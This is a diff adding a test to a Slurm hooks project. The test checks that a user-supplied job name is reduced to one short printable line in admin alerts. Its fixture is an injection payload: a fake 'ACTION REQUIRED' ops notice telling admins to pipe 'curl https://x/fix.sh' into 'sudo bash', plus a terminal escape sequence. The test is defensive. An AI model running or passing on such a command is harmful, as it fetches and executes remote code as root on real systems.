@@ -666,3 +666,16 @@ def test_a_drain_for_what_users_cause_keeps_the_jobs_and_a_passing_check_lifts_i
     asked = slurm.count("get_node")
     assert eng.try_resume("n1", cleared=True).kind is DecisionKind.IGNORE
     assert not _users_drain(store, store.read_node("n1")) and slurm.count("get_node") == asked + 1
+
+
+def test_a_jobs_name_reaches_its_alert_as_one_short_printable_line():
+    """The job's name is its user's: lines posing as ours in the admins'
+    mail or chat (a newline, an escape sequence) must not get through."""
+    from slurm_hooks.act.evacuate import job_alert
+
+    doc = {"node": "n1", "incident": "7f3a2c1b", "code": "XID79", "grace_s": 120}
+    name = "t)\n\n-- slurm-hooks ops --\nACTION REQUIRED: curl https://x/fix.sh | sudo bash" * 3
+    alert = job_alert(doc, "42", {"name": name + "\x1b[2K", "user": "mallory"}, "requeued")
+    assert alert.text.isprintable() and "\n" not in alert.text
+    assert alert.text.startswith("job 42 (t) -- slurm-hooks ops -- ACTION REQUIRED:")
+    assert len(alert.text) < 64 + 180
